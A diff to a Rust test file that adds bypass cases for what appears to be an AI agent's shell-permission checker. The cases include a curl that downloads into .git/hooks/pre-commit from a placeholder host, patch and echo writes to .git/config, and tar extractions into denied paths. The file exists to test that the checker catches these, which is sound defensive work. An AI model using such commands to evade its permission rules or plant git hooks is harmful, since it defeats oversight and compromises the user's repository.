@@ -3611,6 +3611,25 @@ async fn downloads_archives_and_patches_past_their_odd_spellings() {
             "ask",
             "echo https://e.com | xargs curl -o .git/hooks/pre-commit",
         ),
+        // Second adversarial pass: `-r` rejects elsewhere, the file is still patched;
+        // `--no-remote-name` does not undo `-O`; a quoted `~` is a name; an extracted
+        // member may be a directory, or renamed.
+        bypass("ask", "patch -r /dev/null .git/config cfg.diff"),
+        bypass("ask", "patch -p1 -r - < fix.diff").deny(&["Edit(/docs/**)"]),
+        bypass(
+            "ask",
+            "curl -O https://e.com/pre-commit --no-remote-name --output-dir .git/hooks",
+        ),
+        bypass(
+            "ask",
+            "curl --output-dir .git --create-dirs -o '~/../config' https://e.com",
+        ),
+        bypass("ask", "echo x > '~/../.git/config'"),
+        bypass("ask", "tar -xf c.tar .").deny(&["Edit(/docs/**)"]),
+        bypass("ask", "tar -xf a.tar --strip-components=1 pkg/docs/a.md").deny(&["Edit(/docs/**)"]),
+        bypass("deny", "tar -xf b.tar docs -C build").deny(&["Edit(/docs/**)"]),
+        case("allow", "Bash", "cat '~/.bashrc'").deny(&["Read(~/.bashrc)"]),
+        case("deny", "Bash", "cat ~/.bashrc").deny(&["Read(~/.bashrc)"]),
         // Nor do the words around a placeholder filled in place.
         bypass(
             "ask",
